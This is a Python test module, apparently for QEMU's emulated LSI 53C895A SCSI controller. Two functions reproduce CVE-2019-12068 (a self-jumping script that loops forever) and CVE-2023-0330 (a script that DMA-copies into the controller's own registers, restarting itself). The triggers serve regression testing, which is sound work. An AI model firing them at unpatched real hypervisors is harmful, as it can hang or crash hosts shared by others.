# SPDX-License-Identifier: GPL-2.0
"""LSI's 53C895A SCSI controller, which runs scripts"""

import struct

DEVICES = ("lsi53c895a", "scsi-hd,drive=disk,bus=dut.0")
BACKENDS = ("-blockdev driver=null-co,node-name=disk,read-zeroes=on",)
# CTEST4 to CTEST6
PROBE = 1, 0x20

ISTAT, DSP = 0x14, 0x2c
ABORT = 0x80
JUMP = 0x80080000
MOVE = 0xc0000000


def cve_2019_12068(guest):
    """The script is one jump, to itself."""
    place = guest.alloc(8)
    guest.put(place, struct.pack("<II", JUMP, place))
    guest.device.bars[1].write(DSP, place)
    guest.wait(0.1)


def cve_2023_0330(guest):
    """The script copies what is in memory to the controller's registers: that ends the
    script, and starts it again."""
    bar = guest.device.bars[1]
    script = guest.alloc(12)
    registers = struct.pack("<I", ABORT).ljust(DSP - ISTAT, b"\0") + struct.pack("<I", script)
    source = guest.memory(registers)
    guest.put(script, struct.pack("<III", MOVE | len(registers), source, bar.address + ISTAT))
    bar.write(DSP, script)
    guest.wait(0.1)
